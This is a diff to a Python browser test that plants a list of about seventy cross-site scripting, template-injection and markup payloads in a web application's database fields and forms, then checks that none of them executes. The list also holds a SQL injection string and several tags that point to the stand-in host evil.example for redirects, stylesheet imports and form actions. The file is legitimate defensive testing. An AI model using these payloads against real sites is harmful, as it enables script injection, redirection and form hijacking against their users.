@@ -19,33 +19,82 @@ pytestmark = pytest.mark.browser
 RUN = "window.ran=1,alert(1)"
 PAYLOADS = tuple(
     f"P{number:02} {words}"
-    for number, words in enumerate((
-        f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>",
-        f"<script src=data:,{RUN}></script>", f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>",
-        f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>",
-        f"</title><svg onload={RUN}>", f"</textarea><svg onload={RUN}>", f"</style><svg onload={RUN}>",
-        f"--><svg onload={RUN}>", f"]]><svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
-        f"<svg><animate onbegin={RUN} attributeName=x></svg>", f"<math><mi xlink:href=\"javascript:{RUN}\">x</mi></math>",
-        f"<iframe src=javascript:{RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>", "<object data=data:text/html,x>",
-        "<embed src=data:text/html,x>", "<base href=https://evil.example/>", "<link rel=stylesheet href=//evil.example/x>",
-        "<meta http-equiv=refresh content=0;url=//evil.example>", "<style>*{display:none}</style>",
-        "<style>@import'//evil.example'</style>", "<p style=position:fixed;inset:0>x</p>", "<form action=//evil.example>",
-        "<input autofocus onfocus=alert(1)>", f"<details open ontoggle={RUN}>", f"<body onload={RUN}>",
-        f"<marquee onstart={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
-        f"<a href=javascript:{RUN}>x</a>", f"<a href='java&#9;script:{RUN}'>x</a>", f"javascript:{RUN}",
-        "data:text/html,<script>alert(1)</script>", f"\" onmouseover={RUN} x=\"", f"' onfocus={RUN} autofocus x='",
-        f"` onfocus={RUN} `", f"\" autofocus onfocus={RUN} \"", f"x onerror={RUN}", "{{ 7 * 7 }}",
-        "{{ config.items() }}", "{% raw %}{% endraw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
-        f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"%3Cscript%3E{RUN}%3C/script%3E",
-        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
-        f"<\u200bscript>{RUN}</script>", f"\u202e<script>{RUN}</script>", f"<x contenteditable onblur={RUN}>x",
-        "<planted-node>x</planted-node>", "<template><planted-node></template>", "<noscript><planted-node></noscript>",
-        f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<xss onpointerrawupdate={RUN}>",
-        "<!--<img src=\"--><planted-node>\">", f"<button popovertarget=x onclick={RUN}>x</button><p popover id=x>",
-        "<dialog open><planted-node></dialog>", "'; DROP TABLE risk; --", "<a id=main><a id=main name=y>",
-        "<plaintext>", "<table><td background=//evil.example>", "<isindex type=image src=1 onerror=alert(1)>",
-    ))
-)  # fmt: skip
+    for number, words in enumerate(
+        (
+            f"<script>{RUN}</script>",
+            f"</script><script>{RUN}</script>",
+            f"<ScRiPt>{RUN}</sCrIpT>",
+            f"<script src=data:,{RUN}></script>",
+            f"<img src=x onerror={RUN}>",
+            f"<img/src=x/onerror={RUN}>",
+            f'"><img src=x onerror={RUN}>',
+            f"'><img src=x onerror={RUN}>",
+            f"<svg onload={RUN}>",
+            f"<svg/onload={RUN}>",
+            f"</title><svg onload={RUN}>",
+            f"</textarea><svg onload={RUN}>",
+            f"</style><svg onload={RUN}>",
+            f"--><svg onload={RUN}>",
+            f"]]><svg onload={RUN}>",
+            f"<svg><script>{RUN}</script></svg>",
+            f"<svg><animate onbegin={RUN} attributeName=x></svg>",
+            f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
+            f"<iframe src=javascript:{RUN}>",
+            f"<iframe srcdoc='<script>{RUN}</script>'>",
+            "<object data=data:text/html,x>",
+            "<embed src=data:text/html,x>",
+            "<base href=https://evil.example/>",
+            "<link rel=stylesheet href=//evil.example/x>",
+            "<meta http-equiv=refresh content=0;url=//evil.example>",
+            "<style>*{display:none}</style>",
+            "<style>@import'//evil.example'</style>",
+            "<p style=position:fixed;inset:0>x</p>",
+            "<form action=//evil.example>",
+            "<input autofocus onfocus=alert(1)>",
+            f"<details open ontoggle={RUN}>",
+            f"<body onload={RUN}>",
+            f"<marquee onstart={RUN}>",
+            f"<video><source onerror={RUN}></video>",
+            f"<audio src=x onerror={RUN}>",
+            f"<a href=javascript:{RUN}>x</a>",
+            f"<a href='java&#9;script:{RUN}'>x</a>",
+            f"javascript:{RUN}",
+            "data:text/html,<script>alert(1)</script>",
+            f'" onmouseover={RUN} x="',
+            f"' onfocus={RUN} autofocus x='",
+            f"` onfocus={RUN} `",
+            f'" autofocus onfocus={RUN} "',
+            f"x onerror={RUN}",
+            "{{ 7 * 7 }}",
+            "{{ config.items() }}",
+            "{% raw %}{% endraw %}",
+            "${7*7}",
+            "#{7*7}",
+            "<%= 7*7 %>",
+            f"&lt;script&gt;{RUN}&lt;/script&gt;",
+            f"&#60;script&#62;{RUN}&#60;/script&#62;",
+            f"%3Cscript%3E{RUN}%3C/script%3E",
+            f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+            f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
+            f"<\u200bscript>{RUN}</script>",
+            f"\u202e<script>{RUN}</script>",
+            f"<x contenteditable onblur={RUN}>x",
+            "<planted-node>x</planted-node>",
+            "<template><planted-node></template>",
+            "<noscript><planted-node></noscript>",
+            f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+            f"<xss onpointerrawupdate={RUN}>",
+            '<!--<img src="--><planted-node>">',
+            f"<button popovertarget=x onclick={RUN}>x</button><p popover id=x>",
+            "<dialog open><planted-node></dialog>",
+            "'; DROP TABLE risk; --",
+            "<a id=main><a id=main name=y>",
+            "<plaintext>",
+            "<table><td background=//evil.example>",
+            "<isindex type=image src=1 onerror=alert(1)>",
+        )
+    )
+)
 LOOK = """() => [...document.querySelectorAll(
   'script, iframe, object, embed, base, meta[http-equiv], style, planted-node, template, noscript, svg script, math, '
   + 'marquee, video, audio, dialog, plaintext, xss, x, img, form[action*="evil"], [background], [popover], [srcdoc], '
@@ -55,22 +104,14 @@ LOOK = """() => [...document.querySelectorAll(
   .map(each => each.outerHTML.slice(0, 120)).concat(window.ran ? ['it ran'] : [], window.broken || [])"""
 WATCH = """window.broken = []; document.addEventListener('securitypolicyviolation',
   event => window.broken.push('policy: ' + event.effectiveDirective + ' ' + event.blockedURI))"""
-CODES = {
-    "password_hash",
-    "email",
-    "key",
-    "token_digest",
-    "digest",
-    "hash",
-    "holder",
-    "message_id",
-    "address",
-    "html",
-    "text",
-}
-"""Free text by its type, but nothing that anybody wrote: what finds a row, proves it, or is mail as it was sent."""
-TABLES_OF_OURS = {"audit_entry", "audit_payload", "alembic_version", "policy_version", "lease", "web_session", "paper"}
-LEAST_COLUMNS, LEAST_PAGES = 30, 60
+MAKE = "() => { try { document.body.innerHTML = '<b>x</b>'; return 'made' } catch { return 'no' } }"
+NOBODYS_WORDS = {
+    "lease.holder", "person.email", "person.password_hash", "policy_version.fingerprint", "sign_in_failure.email",
+    "import_preview.fingerprint", "unit.path", "message.message_id", "message.address", "message.subject",
+    "message.text", "message.html", "pack_part.pdf_sha256", "body_money.kind",
+}  # fmt: skip
+"""Free text by its type that nobody wrote: what finds a row or proves it, and mail as it was sent."""
+LEAST_COLUMNS, LEAST_PAGES = 20, 60
 
 
 def plant() -> int:
@@ -78,18 +119,18 @@ def plant() -> int:
     columns = 0
     for table in Base.metadata.sorted_tables:
         key = list(table.primary_key.columns)
-        if table.name in TABLES_OF_OURS or len(key) != 1:
+        if len(key) != 1:
             continue
         for column in table.columns:
             is_free = isinstance(column.type, String) and column.type.length is None and not column.foreign_keys
-            if not is_free or column.name in CODES or column.primary_key or "reference" in column.name:
+            if not is_free or column.primary_key or str(column) in NOBODYS_WORDS:
                 continue
             ids = db.session.scalars(select(key[0]).where(column.is_not(None), func.length(column) > 8)).all()
             for id_, words in zip(ids[:400], itertools.cycle(PAYLOADS), strict=False):
                 try:
                     with db.session.begin_nested():
                         db.session.execute(update(table).where(key[0] == id_).values({column.name: words}))
-                except Exception:  # noqa: BLE001, S112 - a column of few allowed words is no free text
+                except Exception:  # noqa: BLE001 - a column of few allowed words is no free text
                     break
             else:
                 columns += bool(ids)
@@ -144,7 +185,8 @@ class Watch:
 def _fill(watch: Watch, path: str, words: str, button: str) -> None:
     watch.page.goto(watch.site.url + path)
     for box in watch.page.locator("main input[type=text], main textarea, main input:not([type])").all():
-        box.fill(words)
+        if box.is_visible():
+            box.fill(words)
     watch.page.locator("main").get_by_role("button", name=button).first.click()
     watch.look()
 
@@ -190,7 +232,7 @@ def tell(capsys, planted):
 def test_hostile_words_in_every_field_stay_words_in_a_browser(site: Site, planted: int, tell) -> None:
     assert planted >= LEAST_COLUMNS
     assert len(PAYLOADS) >= 60
-    _try(site, ("assurance", "admin"), tell, most=40, forms_each=6)
+    _try(site, ("assurance", "admin"), tell, most=30, forms_each=18)
 
 
 @pytest.mark.drill
